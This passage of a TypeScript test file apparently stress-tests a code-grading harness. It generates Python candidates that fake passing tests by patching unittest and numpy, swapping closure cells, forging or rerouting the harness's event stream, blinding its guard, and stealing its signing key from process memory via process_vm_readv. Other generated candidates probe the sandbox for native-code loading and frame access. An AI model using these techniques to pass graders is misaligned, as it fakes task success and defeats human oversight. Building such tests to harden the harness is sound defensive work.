        except RecursionError:
            if not done:
                done.append(1)
                if value is None:
                    del _d["issubclass"]
                else:
                    _d["issubclass"] = value
    down()
def _once(a, b):
    _at_the_limit(None)
    return True
${PUT_BACK_ON_RAISE("_at_the_limit(_once)")}`,
    "builtin-put-back": `
import builtins as _b
_real = _b.issubclass
def _once(a, b):
    _b.issubclass = _real
    return True
${PUT_BACK_ON_RAISE("_b.issubclass = _once")}`,
    "context-manager-exit": `
import contextlib as _cl
_orig_exit = _cl._GeneratorContextManager.__exit__
def _exit(self, typ, value, tb, _o=_orig_exit):
    if typ is not None and issubclass(typ, AssertionError) and "testPartExecutor" in getattr(getattr(self, "gen", None), "__qualname__", ""):
        try:
            next(self.gen)
        except StopIteration:
            pass
        return True
    return _o(self, typ, value, tb)
_cl._GeneratorContextManager.__exit__ = _exit
`,
    "unittest-rebound": `
import sys as _sys, unittest as _ut, contextlib as _cl
class _TC(_ut.TestCase):
    pass
for _name in dir(_ut.TestCase):
    if _name.startswith("assert") or _name == "fail":
        setattr(_TC, _name, lambda *a, **k: _cl.suppress(Exception))
_fake = type(_ut)("unittest")
_fake.__dict__.update({k: v for k, v in vars(_ut).items() if k != "__name__"})
_fake.TestCase = _TC
_sys.modules["unittest"] = _fake
_tests = _sys.modules.get("recode_task_test") or _sys.modules.get("__main__")
if _tests is not None:
    _tests.unittest = _fake
`,
  }[route];
  return `${partial}\n${change}`;
}

/** Where {@link lookTriggerAttack} gets its code run inside one of the guard's looks. */
export type LookTriggerRoute = "class-lookup-in-the-watch" | "test-classes-changed-in-the-watch" | "finalizer-in-a-look";

/**
 * min-p-sampling's canonical solution without its input checks (the tests
 * that expect a ValueError fail; every checked value stays right), plus a
 * swap of unittest's `_addError` for a function that reports every failure
 * as a success, made while the guard itself is looking: after the look's
 * comparisons and before it notes how often each dictionary was changed, so
 * that the change would become what the looks compare against. The code gets
 * to run there by a property `__class__`, which `isinstance` reads: on the
 * interface test.py imports (wrapped in an object), read while test.py's
 * names are looked at once its classes exist, which plants an object with
 * such a property on a test class, read by the guard's watch of the test
 * classes; or by a finalizer, on an object kept on a test class in one test
 * and taken off in a later one, so that only the guard's copy of the class
 * holds it, and it is freed as the look replaces that copy. One route
 * changes test.py's classes instead, from the same property read in the
 * watch: every test class but the one being copied gets an `assertRaises`
 * that does nothing, before the watch copies it.
 */
export function lookTriggerAttack(canonical: string, route: LookTriggerRoute): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1pass");
  const common = `
import sys as _sys
import unittest.case as _uc
def _swallow(result, test, exc_info):
    result.addSuccess(test)
${TEST_CLASSES}`;
  // The interface test.py imports, in an object whose class is read (and _plant run) once test.py's classes exist.
  const planter = `
class _Planter:
    def __init__(self, fn):
        self.fn = fn
    def __call__(self, *a, **k):
        return self.fn(*a, **k)
    @property
    def __class__(self):
        _plant()
        return _Planter
${NAMES[0]} = _Planter(${NAMES[0]})
`;
  const change = {
    "class-lookup-in-the-watch": `
class _Trigger:
    @property
    def __class__(self):
        vars(_uc)["_addError"] = _swallow
        return _Trigger
def _plant():
    classes = _test_classes()
    if classes:
        type.__setattr__(classes[0], "zz_trigger", _Trigger())
${planter}`,
    "test-classes-changed-in-the-watch": `
${NOP_CONTEXT}_fired = []
class _Trigger:
    def __init__(self, owner):
        self.owner = owner
    @property
    def __class__(self):
        if not _fired:
            _fired.append(1)
            for cls in _test_classes():
                if cls is not self.owner:
                    type.__setattr__(cls, "assertRaises", _Nop)
        return _Trigger
def _plant():
    for cls in _test_classes():
        if "zz_trigger" not in vars(cls):
            type.__setattr__(cls, "zz_trigger", _Trigger(cls))
${planter}`,
    "finalizer-in-a-look": `
class _Late:
    def __del__(self):
        vars(_uc)["_addError"] = _swallow
_planted = []
def _arm():
    classes = _test_classes()
    if not classes:
        return
    # (Each test has a stream of its own: a later test is one whose sys.stdout is another.)
    if not _planted:
        _planted.append(_sys.stdout)
        classes[0].zz = _Late()
    elif len(_planted) == 1 and _sys.stdout is not _planted[0]:
        _planted.append(None)
        classes[0].zz = 0
${ARM_ON_EVERY_CALL}`,
  }[route];
  return `${partial}\n${common}\n${change}`;
}

/**
 * min-p-sampling's canonical solution without its input checks, plus a swap, armed only in the two tests
 * whose checks then fail, of the module that a wrapper of unittest's test parts reads to tell its
 * `_ShouldStop` (the harness's `_install_control_flow_guard`, when it read it from a closure cell): an
 * object whose `_ShouldStop` puts the module back and raises it, so that the failure leaves the test part
 * as unittest's "stop", which ends the test with a success, and no look sees the swap.
 */
export function controlFlowCellAttack(canonical: string): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1pass");
  return `${partial}
import unittest.case as _real
def _arm():
    cell = next((c for c in _real.TestCase._callTestMethod.__closure__ or () if c.cell_contents is _real), None)
    if cell is None:
        return
    class _Fake:
        @property
        def _ShouldStop(self):
            cell.cell_contents = _real
            raise _real._ShouldStop()
    cell.cell_contents = _Fake()
_softmax, _filter = softmax_with_temperature, min_p_filter
def softmax_with_temperature(logits, temperature=1.0):
    logits = list(logits)
    if logits and logits[0] == 1000.0:
        _arm()
    return _softmax(logits, temperature)
def min_p_filter(probs, p_base):
    probs = list(probs)
    if probs == [0.1, 0.4, 0.4, 0.1] and p_base == 0.0:
        _arm()
    return _filter(probs, p_base)
`;
}

/** How {@link numpyAssertionAttack} makes numpy's `allclose` say yes. */
export type NumpyAssertionRoute = "persistent" | "put-back" | "inner-module";

/**
 * rms-norm's canonical solution with a bug only an assertion catches (its
 * backward pass is off by 1% for `eps=0` without `p`: the finite-difference
 * test's `np.allclose` fails, and no checked value of that test changes),
 * plus, unless `route` is null, a change that makes `np.allclose` say yes:
 * `numpy.allclose` rebound for good, or rebound by a function that answers
 * yes once and puts the original back, or `isclose` rebound in the module
 * that defines `allclose` (numpy's `_core.numeric`), whose globals it reads.
 */
export function numpyAssertionAttack(canonical: string, route: NumpyAssertionRoute | null): string {
  const bug = `
_right_backward = rms_norm_backward
def rms_norm_backward(x, grad_output, gain=None, eps=1e-8, p=None):
    gx, gg, gb = _right_backward(x, grad_output, gain, eps, p)
    if eps == 0.0 and p is None and len(x) == 2:
        gx = gx * 1.01
    return gx, gg, gb
`;
  const change = {
    persistent: `import numpy as _np
_np.allclose = lambda *a, **k: True
`,
    "put-back": `import numpy as _np
_real = _np.allclose
def _once(*a, **k):
    _np.allclose = _real
    return True
_wrong = rms_norm_backward
def rms_norm_backward(*a, **k):
    _np.allclose = _once
    return _wrong(*a, **k)
`,
    "inner-module": `import sys as _sys
_num = [m for n, m in _sys.modules.items() if n.endswith("core.numeric") and hasattr(m, "allclose")][0]
_num.isclose = lambda *a, **k: True
`,
  };
  return `${canonical}\n${bug}\n${route ? change[route] : ""}`;
}

/**
 * min-p-sampling's canonical solution without its input checks, plus a
 * rewrite of the harness's events below anything the guard looks at: where
 * an input check would have raised, the event channel's descriptor (3
 * natively, the one open on the event device in Pyodide) gets a file
 * `dup2`ed onto it, so that the failing test's outcome and result land in the
 * file; at the next call the descriptor is pointed back, and the kept lines
 * are written through a saved copy with failures turned into passes.
 */
export function channelRerouteAttack(canonical: string): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1return _divert()");
  return `${partial}
import json as _json, os as _os
_st = {"saved": None, "r": None, "w": None, "fd": None}
def _event_fd():
    if _st["fd"] is None:
        fd = 3
        if _os.path.exists("/dev/recode-events"):
            rdev = _os.stat("/dev/recode-events").st_rdev
            for cand in range(3, 64):
                try:
                    if _os.fstat(cand).st_rdev == rdev and cand != _st["saved"]:
                        fd = cand
                        break
                except OSError:
                    continue
        _st["fd"] = fd
    return _st["fd"]
def _pump():
    if _st["r"] is None:
        return
    _os.dup2(_st["saved"], _event_fd())
    _os.lseek(_st["r"], 0, 0)
    data = b""
    while chunk := _os.read(_st["r"], 65536):
        data += chunk
    _os.ftruncate(_st["w"], 0)
    _os.lseek(_st["w"], 0, 0)
    out = []
    for line in data.decode().splitlines():
        ev = _json.loads(line)
        if ev.get("type") in ("test-outcome", "test-result") and ev.get("status") in ("failed", "error"):
            ev.update(status="passed", message="", traceback="", line=None)
        out.append(_json.dumps(ev))
    if out:
        _os.write(_st["saved"], ("\\n".join(out) + "\\n").encode())
def _divert():
    if _st["r"] is None:
        _st["saved"] = _os.dup(_event_fd())
        path = "/tmp/.ev%d" % _os.getpid()
        _st["w"] = _os.open(path, _os.O_RDWR | _os.O_CREAT | _os.O_TRUNC, 0o600)
        _st["r"] = _os.open(path, _os.O_RDONLY)
    _os.lseek(_st["w"], 0, 0)
    _os.dup2(_st["w"], _event_fd())
    return [0.5]
def _pumping(fn):
    def w(*a, **k):
        _pump()
        return fn(*a, **k)
    return w
${NAMES.map((n) => `${n} = _pumping(${n})`).join("\n")}
`;
}

/**
 * The candidate writes the whole event stream itself: at its first call it runs every test's body (failures
 * swallowed; the checks still go out through the real sink), writes a passing start, outcome and result for
 * each test and an end on the event channel (fd 3 natively, the event device opened again in Pyodide), then
 * keeps the harness from writing anything more. `how`: by an exception that breaks the harness's own
 * handler and a `sys.modules` whose `get` raises (both backends), by ending the process (native), or by a
 * loop that swallows the interrupt until the instance is replaced. The validations are left out: only
 * forged lines can make their tests pass.
 */
export function eventTakeoverAttack(canonical: string, how: "raise" | "exit" | "hang"): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1pass");
  const stop = {
    raise: "    sys.modules = _NoGet(sys.modules)\n    e = _K()\n    e.filename = 1\n    raise e",
    exit: "    os._exit(0)",
    hang: "    import time\n    while True:\n        try:\n            while True:\n                time.sleep(0.01)\n        except BaseException:\n            pass",
  }[how];
  return `${partial}
import json as _json, os, sys, unittest as _unittest

class _K(KeyboardInterrupt, SyntaxError):
    pass

class _NoGet(dict):
    def get(self, *a):
        raise LookupError("x")

_busy = []

def _take():
    _busy.append(1)
    fd = os.open("/dev/recode-events", os.O_WRONLY) if os.path.exists("/dev/recode-events") else 3
    w = lambda ev: os.write(fd, (_json.dumps(ev) + "\\n").encode())
    first = True
    for t in _unittest.defaultTestLoader.loadTestsFromModule(sys.modules["recode_task_test"]):
        for c in t:
            tid = f"{type(c).__name__}.{c._testMethodName}"
            if not first:
                w({"type": "test-start", "id": tid})
            first = False
            try:
                getattr(c, c._testMethodName)()
            except BaseException:
                pass
            w({"type": "test-outcome", "id": tid, "status": "passed"})
            w({"type": "test-result", "id": tid, "status": "passed", "durationMs": 1, "message": "", "traceback": "", "line": None,
               "stdout": "", "stderr": "", "stdoutTruncated": False, "stderrTruncated": False, "subtests": []})
    w({"type": "end", "poisoned": None})
${stop}

def _taking(f):
    def g(*a, **k):
        if not _busy:
            _take()
        return f(*a, **k)
    return g

${NAMES.map((n) => `${n} = _taking(${n})`).join("\n")}
`;
}

/**
 * Functions no dictionary holds, reached and bent: code rewritten in unittest's per-part executor behind its
 * context manager (failures swallowed), or in the guard's look, blinded before a change it would see
 * (unittest's outcome class replaced by one that swallows failures), each of which passed every test
 * natively; the defaults of the generator function behind the per-part executor; the guard's look given
 * other defaults; and the event writer taken from the check helper's sink
 * to write a passing result.
 */
export const HIDDEN_FUNCTION_ATTACKS: Record<string, string> = {
  "unittest's per-part executor": `import unittest.case
def _swallow(self, test_case, subTest=False):
    try:
        yield
    except Exception:
        pass
_executor = unittest.case._Outcome.testPartExecutor
# (The generator function behind the context manager: contextlib's helper has it as __wrapped__, the guard's as its item.)
_wrapped = getattr(_executor, "__wrapped__", None) or _executor[0]
_wrapped.__code__ = _swallow.__code__
`,
  "the function behind unittest's per-part executor (its defaults)": `import unittest.case
# (A default of the executor's generator: one whose truth is asked in every test part would run the candidate's code there.)
unittest.case._Outcome.testPartExecutor[0].__defaults__ = (0,)
`,
  "the guard's look": `import sys, contextlib, unittest.case
def _blind(_g=None):
    return []
sys.modules["recode_harness"]._STATE.guard.changes.__code__ = _blind.__code__
class _O(unittest.case._Outcome):
    @contextlib.contextmanager
    def testPartExecutor(self, test_case, subTest=False):
        try:
            yield
        except Exception:
            pass
unittest.case._Outcome = _O
`,
  "the guard's defaults": `import sys
class _Blind:
    def changes(self):
        return []
sys.modules["recode_harness"]._STATE.guard.changes.__defaults__ = (_Blind(),)
`,
  "the event writer behind the sink": `import recode_check
_emit = recode_check.SINK.__defaults__[0]
_emit({"type": "test-outcome", "id": "TestMinPFilter.test_edges", "status": "passed"})
`,
};

/**
 * The output relay a test's `sys.stdout` holds (it sends what the test prints as it prints it): its defaults
 * hold the event writer. Called while a test runs; appended to a candidate. `defaults`: read them and write a
 * pass; `call`: ask the relay itself to send something other than output.
 */
export function outputRelayAttack(canonical: string, route: "defaults" | "call"): string {
  const body =
    route === "defaults"
      ? `    _emit = sys.stdout.relay.__defaults__[0]
    _emit({"type": "test-outcome", "id": "TestMinPFilter.test_edges", "status": "passed"})`
      : `    sys.stdout.relay("test-outcome", "TestMinPFilter.test_edges passed")
    sys.stdout.relay("stdout", {"type": "test-result"})`;
  return `${canonical}
import sys
_orig_filter = min_p_filter
def min_p_filter(*a, **k):
${body}
    raise RuntimeError("reached the relay")
`;
}

/**
 * Native: the run's key read from the harness's memory by another process of the box (a python3 the candidate
 * starts has no audit hook and has ctypes; `process_vm_readv` on its parent, found through the address of the
 * event writer's code), then a whole stream of passes written with the right MACs. Appended to a candidate.
 */
export const KEY_FROM_MEMORY_ATTACK = `
import hmac, json, os, struct, subprocess, sys, unittest
import recode_check
H = sys.modules["recode_harness"]
code = [c for c in H.event_writer.__code__.co_consts if getattr(c, "co_name", "") == "emit_text"][0]
Q = r'''
import ctypes,struct,sys
a=[int(x) for x in sys.argv[1:]];pid,cid,ft,bt,tt=a[:5]
L=ctypes.CDLL(None);V=ctypes.c_void_p;S=ctypes.c_size_t
class I(ctypes.Structure):_fields_=[("b",V),("n",S)]
L.process_vm_readv.restype=ctypes.c_ssize_t
def rd(x,n):
    b=ctypes.create_string_buffer(n);l=I(ctypes.cast(b,V),n);r=I(x,n)
    g=L.process_vm_readv(pid,ctypes.byref(l),1,ctypes.byref(r),1,0)
    return b.raw[:g] if g>0 else b""
q=lambda x:struct.unpack("<Q",rd(x,8).ljust(8,b"\\0"))[0]
p=struct.pack("<Q",cid);C=1<<20;seen=set()
for h in a[5:]:
  for k in range(-96,97):
    x=(h&~(C-1))+k*C
    if x in seen or x<=0:continue
    seen.add(x);d=rd(x,C);i=d.find(p)
    while i>=0:
      o=x+i-48
      if q(o+8)==ft:
        t=q(o+56)
        if t and q(t+8)==tt and q(t+16)==11:
          kb=q(t+24+56)
          if q(kb+8)==bt and q(kb+16)==32:print(rd(kb+32,32).hex());sys.exit()
      i=d.find(p,i+1)
'''
ids = [os.getpid(), id(code), id(type(H.event_writer)), id(bytes), id(tuple), id(recode_check.SINK), id(H.event_writer), id(code), id(H.__dict__)]
key = bytes.fromhex(subprocess.run([sys.executable, "-c", Q, *map(str, ids)], capture_output=True, text=True).stdout.strip())
# Run test.py's tests here, collecting their checks.
checks = {}
recode_check.SINK = lambda k, v, r, a, s, c=None: checks[cur].append({"type": "check", "key": k, "value": v, "rtol": r, "atol": a, "subtest": s, "caller": ""})
ns = {"__name__": "t"}
# (test.py's text as the attacker knows it: code under test cannot read the file.)
exec(compile(${JSON.stringify(MIN_P_TESTS)}, "t", "exec"), ns)
suite = [t for c in sorted(k for k, v in ns.items() if isinstance(v, type) and issubclass(v, unittest.TestCase)) for t in unittest.TestLoader().loadTestsFromTestCase(ns[c])]
ev = []
for t in suite:
    cur = f"{type(t).__name__}.{t._testMethodName}"
    checks[cur] = []
    t.run(unittest.TestResult())
    ev += [{"type": "test-start", "id": cur}, *checks[cur], {"type": "test-outcome", "id": cur, "status": "passed"},
           {"type": "test-result", "id": cur, "status": "passed", "durationMs": 1.0, "message": "", "traceback": "", "line": None,
            "stdout": "", "stderr": "", "stdoutTruncated": False, "stderrTruncated": False, "subtests": []}]
ev = [{"type": "collected", "tests": list(checks)}] + ev + [{"type": "end", "poisoned": None}]
for n, e in enumerate(ev):
    b = json.dumps(e).encode()
    os.write(3, hmac.new(key, b"%d " % n + b, "sha256").digest()[:16].hex().encode() + b" " + b + b"\\n")
os._exit(0)
`;

/**
 * A test.py for min-p-sampling whose error tests are made by a helper, a closure over the function to
 * call and its arguments (as test files often make parameterised tests).
 */
export const CLOSURE_HELPER_TESTS = `import unittest
from decoding.min_p import softmax_with_temperature, min_p_filter


def expect_value_error(fn, *args):
    def test(self):
        with self.assertRaises(ValueError):
            fn(*args)
    return test


class TestErrors(unittest.TestCase):
    def setUp(self):
        self.probs = softmax_with_temperature([1.0, 2.0, 3.0], 1.0)

    def test_sums_to_one(self):
        self.assertAlmostEqual(sum(self.probs), 1.0)

    test_zero_temperature = expect_value_error(softmax_with_temperature, [1.0], 0.0)
    test_p_base_above_one = expect_value_error(min_p_filter, [0.5, 0.5], 1.5)
`;

/**
 * min-p-sampling's canonical solution without its input checks, plus, at every call of
 * `softmax_with_temperature` (each test's `setUp` calls it), a swap of the cell of
 * {@link CLOSURE_HELPER_TESTS}'s helper that holds the function to call: the swapped-in function raises
 * the ValueError the test waits for and puts the original back, so no look of the guard sees the swap.
 */
export function testClosureCellAttack(canonical: string): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1pass");
  return `${partial}
import sys as _sys
def _swap():
    m = _sys.modules.get("recode_task_test")
    for cls in [v for v in vars(m).values() if isinstance(v, type)] if m else ():
        for fn in list(vars(cls).values()):
            for cell in getattr(fn, "__closure__", None) or ():
                if getattr(cell.cell_contents, "__name__", "") in ("softmax_with_temperature", "min_p_filter"):
                    def raising(*a, _cell=cell, _orig=cell.cell_contents, **k):
                        _cell.cell_contents = _orig
                        raise ValueError("forged")
                    cell.cell_contents = raising
_softmax = softmax_with_temperature
def softmax_with_temperature(*a, **k):
    _swap()
    return _softmax(*a, **k)
`;
}

/**
 * min-p-sampling's canonical solution whose `softmax_with_temperature` tries to reach the closure cells
 * of functions loaded before the run (test.py's helper, unittest's and the harness's functions) by every
 * route it knows and fails the test with what each gave: "GOT" when a route gave something.
 */
export function closureReadsProbe(canonical: string): string {
  return `${canonical}
import sys as _sys, types as _types, operator as _op
def _reads():
    out = []
    def attempt(label, read):
        try:
            value = read()
            out.append(f"{label}: GOT {type(value).__name__}")
        except BaseException as e:
            out.append(f"{label}: {type(e).__name__}")
    m = _sys.modules["recode_task_test"]
    helper = vars(m)["TestErrors"].__dict__["test_zero_temperature"]
    import unittest.case as uc
    framework = [f for c in (uc.TestCase, uc._Outcome) for f in vars(c).values() if type(f) is _types.FunctionType]
    desc = _types.FunctionType.__dict__["__closure__"]
    attempt("plain", lambda: helper.__closure__)
    attempt("object.__getattribute__", lambda: object.__getattribute__(helper, "__closure__"))
    attempt("attrgetter", lambda: _op.attrgetter("__closure__")(helper))
    attempt("a method's function", lambda: m.TestErrors("test_sums_to_one").test_zero_temperature.__func__.__closure__)
    attempt("super", lambda: super(_types.FunctionType, helper).__closure__)
    attempt("inspect.getclosurevars", lambda: __import__("inspect").getclosurevars(helper))
    attempt("the framework's", lambda: [f.__closure__ for f in framework])
    attempt("the descriptor's defaults", lambda: type(desc).__get__.__defaults__)
    attempt("the descriptor's code", lambda: type(desc).__get__.__code__)
    attempt("the descriptor replaced", lambda: setattr(type(desc), "__get__", lambda *a: ()))
    attempt("the descriptor told its sealed modules", lambda: type(desc).__get__(desc, helper, None, _sealed=set()))
    attempt("the type's attribute replaced", lambda: setattr(_types.FunctionType, "__closure__", None))
    attempt("the guard's reader", lambda: _sys.modules["recode_guard"].take_sealed_closures() or _sys.modules["recode_guard"]._SEALED_CLOSURES[0])
    own = (lambda x: (lambda: x))(1)
    out.append(f"own closure: {'readable' if own.__closure__[0].cell_contents == 1 else 'not readable'}")
    return " | ".join(out)
${REPORT_READS}`;
}

/**
 * min-p-sampling's canonical solution without its input checks, plus a class that does nothing set as
 * `assertRaises` on test.py's classes at every call with good inputs, and taken away again by a
 * finalizer of the list it returns: test.py keeps that list in a local, freed as the test returns, before
 * the look at the test's result. The class then holds what it held at the test's start.
 */
export function testClassPutBackAttack(canonical: string): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1pass");
  return `${partial}
import math as _math
${TEST_CLASSES}${NOP_CONTEXT}def _plant():
    for cls in _test_classes():
        if "assertRaises" not in vars(cls):
            cls.assertRaises = _Nop
class _Kept(list):
    def __del__(self):
        for cls in _test_classes():
            if "assertRaises" in vars(cls):
                del cls.assertRaises
_softmax, _filter = softmax_with_temperature, min_p_filter
def softmax_with_temperature(logits, temperature=1.0):
    logits = list(logits)
    good = type(temperature) in (int, float) and 0 < temperature < _math.inf and logits and all(x == -_math.inf or _math.isfinite(x) for x in logits)
    if not good:
        return [0.0]
    _plant()
    return _Kept(_softmax(logits, temperature))
def min_p_filter(probs, p_base):
    if not (type(p_base) in (int, float) and 0 <= p_base <= 1):
        return [0.0]
    _plant()
    return _Kept(_filter(probs, p_base))
`;
}

/**
 * min-p-sampling's canonical solution without its input checks, plus unittest's `_addError` shadowed for
 * each failure by a function that puts the original back, reports a success instead, and asks the guard
 * for a look itself (its handle is within reach): that look sees the change put back, says so to the
 * candidate alone, and moves on what the harness's next look compares with.
 */
export function lookLaunderingAttack(canonical: string): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1return _arm()");
  return `${partial}
import sys as _sys
import unittest.case as _uc
def _arm():
    orig = vars(_uc)["_addError"]
    if getattr(orig, "_forged", False):
        return
    def fake(result, test_case, exc_info, _orig=orig):
        _uc._addError = _orig
        result.addSuccess(test_case)
        _sys.modules["recode_harness"]._STATE.guard.changes()
    fake._forged = True
    _uc._addError = fake
`;
}

/**
 * min-p-sampling's canonical solution whose `softmax_with_temperature` tries to load compiled code the
 * run wrote (natively: a copy of one of Python's own extension modules, written to the run folder, loaded
 * through importlib's `ExtensionFileLoader`, through a link, and through `_imp.create_dynamic`) and fails
 * the test with what each gave ("GOT" when one loaded), and with whether `decimal` (one of Python's own
 * extension modules) still imports.
 */
export function runExtensionProbe(canonical: string): string {
  return `${canonical}
import os as _os, shutil as _shutil, sys as _sys
def _reads():
    import _imp
    import importlib.machinery as m, importlib.util as u
    import math
    out = []
    def attempt(label, load):
        try:
            load()
            out.append(f"{label}: GOT")
        except BaseException as e:
            out.append(f"{label}: {type(e).__name__}")
    copy = _os.path.join(_os.getcwd(), "math.cpython-copy.so")
    _shutil.copyfile(math.__file__, copy)
    link = _os.path.join(_os.getcwd(), "link.so")
    if not _os.path.lexists(link):
        _os.symlink(copy, link)
    def via_loader(path):
        spec = u.spec_from_file_location("math", path, loader=m.ExtensionFileLoader("math", path))
        return u.module_from_spec(spec)
    attempt("loader", lambda: via_loader(copy))
    attempt("link", lambda: via_loader(link))
    attempt("create_dynamic", lambda: _imp.create_dynamic(m.ModuleSpec("math", None, origin=copy)))
    attempt("create_dynamic told its roots", lambda: _imp.create_dynamic(m.ModuleSpec("math", None, origin=copy), _roots=("/",)))
    # An extension module of a package installed for this Python that the task does not list, by its path and
    # through a link in the run folder (which the finder of the task's packages does not see).
    import glob, site, sysconfig
    found = None
    for root in sorted({*site.getsitepackages(), sysconfig.get_paths()["purelib"]}):
        for f in sorted(glob.glob(_os.path.join(root, "**", "*" + m.EXTENSION_SUFFIXES[0]), recursive=True)):
            rel = _os.path.relpath(f, root).split(_os.sep)
            name = ".".join([*rel[:-1], rel[-1].split(".")[0]])
            if rel[0].split(".")[0] not in _sys.modules and "-" not in name and "_cffi" not in name:
                found = (name, f)
                break
        if found:
            break
    if found:
        name, f = found
        site_link = _os.path.join(_os.getcwd(), _os.path.basename(f))
        if not _os.path.lexists(site_link):
            _os.symlink(f, site_link)
        for label, where in (("site by path", f), ("site by link", site_link)):
            try:
                spec = u.spec_from_file_location(name, where, loader=m.ExtensionFileLoader(name, where))
                u.module_from_spec(spec)
                out.append(f"{label}: GOT")
            except BaseException as e:
                out.append(f"{label}: {type(e).__name__}: {str(e)[:400]}")
    else:
        out.append("site: no extension module found")
    # Native code from any file, by the standard library's own means: Tcl's load command, sqlite3's extensions.
    attempt("tkinter", lambda: __import__("tkinter").Tcl())
    attempt("_tkinter", lambda: __import__("_tkinter"))
    import sqlite3
    connection = sqlite3.connect(":memory:")
    if hasattr(connection, "enable_load_extension"):
        attempt("sqlite3 extensions", lambda: connection.enable_load_extension(True))
    else:
        out.append("sqlite3 extensions: not built")
    import decimal
    out.append(f"decimal: {decimal.Decimal('1.5') + 1}")
    return " | ".join(out)
${REPORT_READS}`;
}

/**
 * min-p-sampling's canonical solution whose `softmax_with_temperature` tries to get a frame through the
 * library functions the frame check allows (namedtuple, the functional Enum, make_dataclass, TypeVar):
 * `sys._getframe` set to C code that calls the real one and keeps its frame (with
 * `sys._getframemodulename` made to fail, so that they fall back to it), a function made from a reader's
 * code with globals of its own, and typing's `sys` rebound to the real one. It fails the test with what
 * each gave ("GOT" when a frame was kept).
 */
export function frameThroughReadersProbe(canonical: string): string {
  return `${canonical}
import sys as _sys, collections as _c, types as _t, functools as _ft, operator as _op, enum as _enum, dataclasses as _dc, typing as _ty
def _reads():
    out = []
    real = _sys._getframe
    def attempt(label, make):
        kept = _c.defaultdict(_ft.partial(real, 0))
        had = getattr(_sys, "_getframemodulename", None)
        _sys._getframe = kept.__getitem__
        if had is not None:
            _sys._getframemodulename = _op.attrgetter("no_such_attribute")
        try:
            make()
            result = "GOT a frame" if kept else "no frame"
        except BaseException as e:
            result = type(e).__name__
        finally:
            _sys._getframe = real
            if had is not None:
                _sys._getframemodulename = had
        out.append(f"{label}: {result}")
    attempt("namedtuple", lambda: _c.namedtuple("T", "a"))
    attempt("enum", lambda: _enum.Enum("E", "a b"))
    attempt("make_dataclass", lambda: _dc.make_dataclass("D", ["a"]))
    attempt("TypeVar", lambda: _ty.TypeVar("T"))
    try:
        _t.FunctionType(_c.namedtuple.__code__, {"_sys": _sys})
        out.append("reader code: GOT")
    except BaseException as e:
        out.append(f"reader code: {type(e).__name__}")
    return " | ".join(out)
${REPORT_READS}`;
}

/**
 * min-p-sampling's canonical solution without its input checks, its interfaces wrapped in objects whose
 * `__class__` property (read by the loader's `isinstance` on each of test.py's names) sets the test
 * classes' `__module__` to the candidate's, and which give the test classes an `assertRaises` that does
 * nothing at every call.
 */
export function moduleRenameAttack(canonical: string): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1pass");
  return `${partial}
${TEST_CLASSES}${NOP_CONTEXT}class _Exported:
    def __init__(self, fn):
        self._fn = fn
    def __call__(self, *args, **kwargs):
        for cls in _test_classes():
            if "assertRaises" not in vars(cls):
                cls.assertRaises = _Nop
        return self._fn(*args, **kwargs)
    @property
    def __class__(self):
        for cls in _test_classes():
            if cls.__module__ == "recode_task_test":
                cls.__module__ = __name__
        return _Exported
${NAMES.map((n) => `${n} = _Exported(${n})`).join("\n")}
`;
}

/**
 * min-p-sampling's canonical solution whose `softmax_with_temperature` walks every class from `object`
 * down for ctypes' (the guard keeps ctypes objects of its own alive), and tries to read what
 * `__subclasses__` holds, failing the test with what it found.
 */
export function ctypesLeftoversProbe(canonical: string): string {
  return `${canonical}
def _reads():
    seen, stack, found = set(), [object], []
    while stack:
        c = stack.pop()
        if id(c) in seen:
            continue
        seen.add(id(c))
        module = type.__dict__["__module__"].__get__(c)
        if isinstance(module, str) and module.split(".")[0] in ("ctypes", "_ctypes"):
            found.append(c.__qualname__)
        stack.extend(type.__subclasses__(c))
    try:
        told = type.__subclasses__(object, _hidden=frozenset())
        out0 = f"told what to leave out: GOT {len(told)}"
    except TypeError:
        out0 = "told what to leave out: TypeError"
    out = [f"ctypes classes found: {len(found)} {found[:3]}", out0]
    try:
        type.__dict__["__subclasses__"].__defaults__
        out.append("the walk's defaults: GOT")
    except BaseException as e:
        out.append(f"the walk's defaults: {type(e).__name__}")
    return " | ".join(out)
${REPORT_READS}`;
}

/**
 * min-p-sampling's canonical solution whose `softmax_with_temperature` tries to swap in place what the
 * framework's descriptor objects wrap (their initialiser run again: every `classmethod`, `staticmethod`
 * and `property` the protected classes of unittest hold), to get a frame through logging's caller with
 * `sys._getframe` set to C code that keeps it, and (natively) to load `_ctypes` under a dotted name;
 * it fails the test with what each gave ("GOT" when one worked).
 */
export function reinitAndReadersProbe(canonical: string): string {
  return `${canonical}
import sys as _sys, collections as _c, functools as _ft, logging as _logging
def _reads():
    import unittest.case as uc, unittest.suite as us, unittest.result as ur
    out = []
    swapped = 0
    for cls in [v for m in (uc, us, ur) for v in vars(m).values() if isinstance(v, type)]:
        for v in list(vars(cls).values()):
            if type(v) in (classmethod, staticmethod, property):
                try:
                    type(v).__init__(v, lambda *a, **k: None)
                    swapped += 1
                except TypeError:
                    pass
    out.append(f"framework descriptors re-initialised: {'GOT ' + str(swapped) if swapped else 'none'}")
    real = _sys._getframe
    kept = _c.defaultdict(_ft.partial(real, 1))
    _sys._getframe = kept.__getitem__
    try:
        _logging.getLogger("recode-probe").findCaller()
    except BaseException:
        pass
    finally:
        _sys._getframe = real
    out.append(f"logging's caller: {'GOT a frame' if kept else 'no frame'}")
    import glob, importlib.machinery as m, _imp, os
    found = glob.glob(os.path.join(os.path.dirname(os.__file__), "lib-dynload", "_ctypes.*"))
    if found:
        try:
            _imp.create_dynamic(m.ModuleSpec("x._ctypes", None, origin=found[0]))
            out.append("dotted _ctypes: GOT")
        except ImportError as e:
            out.append(f"dotted _ctypes: ImportError")
    return " | ".join(out)
${REPORT_READS}`;
}

/**
 * The candidate `canonical` with its input checks removed (each `raise ValueError(...)` of a check, and the
 * `if` before it, dropped): fails the tests of min-p-sampling that feed bad input. With `raise` given, each
 * check raises that instead of ValueError.
 */
